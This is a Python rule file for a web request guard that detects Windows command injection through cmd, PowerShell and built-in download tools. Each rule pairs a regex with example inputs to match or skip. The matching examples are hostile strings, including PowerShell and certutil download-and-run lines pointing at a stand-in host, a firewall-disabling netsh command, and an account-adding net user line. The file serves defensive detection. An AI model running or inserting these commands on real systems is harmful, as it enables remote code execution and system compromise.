r"""Commands of Windows (CWE-78): `cmd` and PowerShell, and the programs that download and run.

Many of the commands are words, so that they want their own kind of argument.
Must never hold a row of somebody else's collection; every example was written for its rule.
"""

from __future__ import annotations

from typing import Final

from asgi_guard.inspection.rule import Rule

_FIELDS: Final = ("query", "body", "cookie", "header", "referer", "filename", "path")

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="AG-RCE-101",
        attack="rce",
        score=5,
        level=1,
        pattern=r"(?:^|^\S{0,40}\s{0,2}[;\n]|[&|])[\s;&|(@+]{0,6}(?:type|dir|more|copy|del|move|ren|rmdir|rd|md|mkdir|attrib|icacls"
        r"|cacls|erase|xcopy|robocopy)\s{1,4}(?:/[a-z]\s{0,4}){0,3}\"?(?:[a-z]:|%\w{1,20}%|\\\\|\.\.[\\/])",
        needs=("type", "dir", "more", "copy", "del", "move", "ren", "rd", "md", "attrib", "cacls", "erase"),
        why="A command on files of a drive, after a separator or as a whole value.",
        positives=("& type C:\\windows\\win.ini", "x|dir c:/", "dir C:\\shop", "&&del /q %TEMP%\\a", "copy \\\\x\\y z"),
        negatives=("type c", "the drive type C:", "del x", "more: less"),
        places=_FIELDS,
    ),
    Rule(
        id="AG-RCE-102",
        attack="rce",
        score=5,
        level=1,
        pattern=r"(?:^|[;&|\n])[\s;&|(@+]{0,6}(?:net1?(?:\.exe)?\s{1,4}(?:user|localgroup|group|view|share|start"
        r"|stop|use|accounts|session)(?:$|\s{0,2}[&|;/]|\s{1,4}(?:/|\S{1,32}\s{1,4}(?:\S{1,40}\s{1,4})?/))"
        r"|netsh\s{1,4}\w|reg(?:\.exe)?\s{1,4}(?:add|query|save|delete|export)\s"
        r"|sc\s{1,4}(?:query|config|start|stop|create)\b|wmic\s{1,4}\w|schtasks\s{1,4}/|tasklist(?:$|\s/|[&|])"
        r"|taskkill\s{1,4}/|systeminfo(?:$|[\s&|])|ipconfig(?:$|\s?/|[&|\s])|whoami(?:$|\s?/|[&|])"
        r"|ver(?:$|\s?[&|])|shutdown\s{1,4}[-/]|bcdedit\b|vssadmin\s|cscript\s|wscript\s|start\s{1,4}/b"
        r"|ping(?:\.exe)?\s{1,4}[-/][nti]\s{0,2}\d|nslookup\s|tftp\s{1,4}-|quser|query user|at \d\d:"
        r"|netstat\s{0,2}(?:-|/|$))",
        needs=(
            "net",
            "reg",
            "sc",
            "wmic",
            "task",
            "systeminfo",
            "ipconfig",
            "whoami",
            "ver",
            "shutdown",
            "bcdedit",
            "vssadmin",
            "start",
            "ping",
            "nslookup",
            "tftp",
            "user",
            "at ",
        ),
        why="A command of Windows that is no word, after a separator or as a whole value.",
        positives=(
            "& net user x y /add",
            "x| ipconfig /renew",
            "&& netsh advfirewall set allprofiles state off",
            "& reg query HKLM",
        ),
        negatives=("net users", "a & version 2", "reg office", "the net users; many", "fish & net", "net user growth"),
        views=("shell",),
        places=_FIELDS,
    ),
    Rule(
        id="AG-RCE-103",
        attack="rce",
        score=5,
        level=1,
        pattern=r"(?:^|[;&|`\n\"'(=]\s{0,4}|\bstart /b )(?:[a-z]:[\w/\\ ]{1,40}|%comspec%"
        r"|%systemroot%[\w/\\]{1,20})?(?:cmd(?:\.exe)?\"?\s{0,4}/[ckqrv]\b|powershell(?:\.exe)?\"?\s{1,4}(?:-|/"
        r"|\(|\w{1,20}-\w)|pwsh(?:\.exe)?\s{1,4}-[a-z]|%comspec%)",
        needs=("cmd", "powershell", "pwsh", "%comspec%"),
        why="A shell of Windows that is told what to run.",
        positives=(
            "& cmd.exe /c dir",
            "powershell -enc QQBB",
            "x|powershell.exe -nop -w hidden",
            "%COMSPEC% /c x",
            "c^m^d /c x",
        ),
        negatives=("use powershell - or not", "cmd and ctrl", "run cmd.exe /c dir then", "powershell scripts"),
        views=("plain", "shell"),
    ),
    Rule(
        id="AG-RCE-104",
        attack="rce",
        score=5,
        level=1,
        pattern=r"new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file|data)\s{0,2}\("
        r"|\b(?:iex|invoke-expression)\b\s{0,2}(?:\(|\"|'|\$\(|\$\w{1,20}\))|\[system\.(?:convert"
        r"|text\.encoding|reflection\.assembly|diagnostics\.process)\]::"
        r"|frombase64string\s{0,2}\(|\bstart-process\s{1,4}(?:-\w|['\"]|\w{1,20}\.exe|cmd|powershell)|(?:^"
        r"|[;&|]\s{0,2})(?:iwr|invoke-webrequest|irm|invoke-restmethod|start-bitstransfer)\s{1,4}(?:-|https?:"
        r"|['\"])|-encodedcommand\s",
        needs=(
            "new-object",
            ".download",
            "iex",
            "invoke-",
            "[system.",
            "frombase64string",
            "start-",
            "iwr",
            "irm",
            "-encodedcommand",
        ),
        why="PowerShell downloads, decodes and runs.",
        positives=(
            "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
            "[System.Convert]::FromBase64String('aa')",
            "; iwr http://x.example/a.ps1",
        ),
        negatives=("a new object; net weight", "download string", "the iex exchange", "start-process of it"),
    ),
    Rule(
        id="AG-RCE-105",
        attack="rce",
        score=5,
        level=1,
        pattern=r"\bcertutil(?:\.exe)?\s[^\n]{0,40}[-/](?:urlcache|decode|encode|f)\b|\bbitsadmin(?:\.exe)?\s{1,4}/"
        r"|\bmshta(?:\.exe)?\s{1,4}(?:https?:|vbscript:|javascript:)|\brundll32(?:\.exe)?\s{1,4}\S{1,60},"
        r"|\bregsvr32(?:\.exe)?\s{1,4}/"
        r"|\bwmic\s{1,4}(?:process|os|/node)|\bmsiexec\s{1,4}/|\binstallutil\s{1,4}/|\bwscript\.shell\b",
        needs=(
            "certutil",
            "bitsadmin",
            "mshta",
            "rundll32",
            "regsvr32",
            "wmic",
            "msiexec",
            "installutil",
            "wscript.shell",
        ),
        why="Programs that come with Windows, and that download or run anything.",
        positives=(
            "certutil -urlcache -f http://x.example/a",
            "mshta http://x.example/a",
            "regsvr32 /s /n /u a",
            "wmic process call create x",
        ),
        negatives=("certutil is a tool", "rundll32 crashed", "the wmic utility"),
    ),
    Rule(
        id="AG-RCE-106",
        attack="rce",
        score=5,
        level=1,
        pattern=r"%(?:comspec|systemroot|windir|programfiles|programdata|appdata|userprofile|path|os"
        r"|commonprogramfiles|\w{1,16}):~"
        r"|\bfor\s{1,20}(?:/[dflr]\s{1,20}[^%\n]{0,60})?%{1,2}\S{1,8}\s{1,20}in\s{0,20}\([^)\n]{0,100}\)\s"
        r"{0,20}do\b"
        r"|\bif\s{1,20}/i\s{1,20}\S|^if\s{1,20}(?:not\s{1,20})?(?:exist|defined|errorlevel"
        r"|cmdextversion)\s{1,20}\S{1,40}\s{1,20}\S|^if\s{1,20}(?:not\s{1,20})?\S{0,4}%\S{1,20}\s{0,4}(?:==|equ|neq"
        r"|lss|leq|gtr|geq)",
        needs=(":~", "for", "if"),
        why="Substrings of variables, loops and conditions of `cmd`.",
        positives=(
            "%PATH:~0,1%",
            "FOR %a IN (x y) DO dir",
            "if /i not a==b dir",
            "IF EXIST a.txt del a.txt",
            "if %a% neq 1 x",
        ),
        negatives=("for all in (a) do", "if defined", "what if it exists", "create table if not exists x"),
        places=_FIELDS,
    ),
    Rule(
        id="AG-RCE-107",
        attack="rce",
        score=5,
        level=1,
        pattern=r"\bxp_cmdshell\b|\bwmi_?prvse|\bnc(?:at)?\.exe\b|(?:system32|syswow64|winnt)[\\/]{1,2}(?:cmd|net"
        r"|ping|reg|cscript|wscript|certutil|windowspowershell)\b|\bcmd\.exe\?/c",
        needs=("xp_cmdshell", "prvse", "nc.exe", "ncat.exe", "system32", "syswow64", "winnt", "cmd.exe?"),
        why="A shell of Windows by its path, or through its database.",
        positives=("exec xp_cmdshell 'dir'", "/winnt/system32/cmd.exe?/c+dir", "c:\\windows\\system32\\cmd.exe"),
        negatives=("system32 folder", "winnt and net"),
    ),
)
